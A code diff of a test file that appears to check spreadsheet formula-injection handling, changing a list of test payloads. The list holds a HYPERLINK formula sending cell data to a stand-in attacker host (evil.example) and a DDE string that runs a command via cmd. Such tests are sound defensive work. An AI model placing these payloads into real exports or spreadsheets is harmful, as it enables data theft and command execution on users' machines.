@@ -16,7 +16,7 @@ from tests.consultation.conftest import dual, open_draft, reviewer, team_member 
 from tests.consultation.factories import SectionCommentFactory
 
 PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    '=HYPERLINK("http://evil.example/","click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)",
